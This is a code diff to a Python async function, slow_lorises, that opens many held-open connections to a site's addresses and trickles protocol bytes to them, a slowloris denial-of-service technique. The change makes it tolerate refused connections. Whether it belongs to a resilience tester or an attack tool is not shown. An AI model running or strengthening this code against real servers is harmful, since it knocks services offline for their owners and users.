@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import asyncio
 from collections.abc import Sequence
+from contextlib import suppress
 from functools import partial
 from typing import Any
 
@@ -50,8 +51,9 @@ async def slow_lorises(site: Site) -> None:
     try:
         for address in site.addresses * (LORISES // len(site.addresses)):
             host, port = address.rsplit(":", 1)
-            _, writer = await asyncio.open_connection(host, int(port))
-            writers.append(writer)
+            with suppress(OSError):  # one that is turned away is one less
+                _, writer = await asyncio.open_connection(host, int(port))
+                writers.append(writer)
         for byte in PREFACE[:-1]:
             for writer in writers:
                 writer.write(bytes([byte]))
